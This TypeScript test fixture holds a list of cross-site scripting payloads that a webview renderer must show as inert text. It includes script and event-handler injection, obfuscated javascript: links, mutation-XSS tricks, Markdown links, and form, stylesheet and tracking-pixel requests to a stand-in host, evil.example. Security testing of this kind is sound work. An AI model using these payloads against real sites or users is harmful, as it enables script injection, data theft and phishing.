// Hostile payloads the sample data plants in one thread per service. Anything that renders them must
// show them as text (or sanitised markup) and never run them: each executable payload sets
// `window.__threadlineXss` (or `parent.__threadlineXss`), so a test can check the sentinel after
// rendering. Some entries try to leave the webview instead (command:, vscode:, forms, meta refresh),
// some try to break the page (style, base, CSS) rather than execute.

export const XSS_SENTINEL = '__threadlineXss';

export const XSS_PAYLOADS: string[] = [
  // script and event-handler injection
  '<script>window.__threadlineXss=1</script>',
  '<img src=x onerror="window.__threadlineXss=1">',
  '<svg onload="window.__threadlineXss=1">',
  '<svg><script>window.__threadlineXss=1</script></svg>',
  '</script><script>window.__threadlineXss=1</script>',
  '"><script>window.__threadlineXss=1</script>',
  "'><img src=x onerror=window.__threadlineXss=1>",
  '<details open ontoggle="window.__threadlineXss=1">',
  '<body onload="window.__threadlineXss=1">',
  '<input autofocus onfocus="window.__threadlineXss=1">',
  '<video><source onerror="window.__threadlineXss=1"></video>',
  '<marquee onstart="window.__threadlineXss=1">marquee</marquee>',
  '<object data="javascript:window.__threadlineXss=1"></object>',
  '<embed src="javascript:window.__threadlineXss=1">',
  '<template><script>window.__threadlineXss=1</script></template>',
  // dangerous URL schemes in links and frames
  '<a href="javascript:window.__threadlineXss=1">js link</a>',
  '<a href="JaVaScRiPt:window.__threadlineXss=1">mixed-case js link</a>',
  '<a href="jav&#x09;ascript:window.__threadlineXss=1">tab-split js link</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__threadlineXss=1">entity js link</a>',
  '<a href="data:text/html,<script>parent.__threadlineXss=1</script>">data link</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="command:workbench.action.terminal.new">command link</a>',
  '<a href="vscode://threadline.threadline/x">vscode link</a>',
  '<svg><a xlink:href="javascript:window.__threadlineXss=1"><text x="20" y="20">svg link</text></a></svg>',
  '<iframe src="javascript:parent.__threadlineXss=1"></iframe>',
  '<iframe srcdoc="<script>parent.__threadlineXss=1</script>"></iframe>',
  '<form action="https://evil.example"><input name=q><button>go</button></form>',
  '<button formaction="javascript:window.__threadlineXss=1">formaction</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__threadlineXss=1">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/steal.css">',
  '<img src="https://evil.example/track.gif?who=me" width="1" height="1">',
  // parser-confusion (mutation XSS) and CSS
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__threadlineXss=1">',
  '<noscript><p title="</noscript><img src=x onerror=window.__threadlineXss=1>">',
  '<style>body{display:none}</style>',
  '<div style="background:url(javascript:window.__threadlineXss=1)">css</div>',
  '<div style="position:fixed;inset:0;z-index:99999;background:#fff">overlay</div>',
  // Markdown forms
  '[md js link](javascript:window.__threadlineXss=1)',
  '![md img](javascript:window.__threadlineXss=1)',
  '[md data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX190aHJlYWRsaW5lWHNzPTE8L3NjcmlwdD4=)',
  '[md command](command:workbench.action.terminal.new)',
  '<javascript:window.__threadlineXss=1>',
  '[ref link][evil]\n\n[evil]: javascript:window.__threadlineXss=1',
  '[md spaced js](  javascript:window.__threadlineXss=1  )',
  // template / text oddities that must stay inert text
  '{{constructor.constructor("window.__threadlineXss=1")()}}',
  '${window.__threadlineXss=1}',
  '`<script>window.__threadlineXss=1</script>` (inside a code span: must show as text)',
  'invoice\u202Egpj.exe (right-to-left override)',
  'zero\u200Bwidth\u200Bspaces and a very long unbroken token ' + 'A'.repeat(300),
];

/** All payloads joined into one HTML-ish document, for a single "everything at once" message. */
export function allPayloads(separator = '\n'): string {
  return XSS_PAYLOADS.join(separator);
}
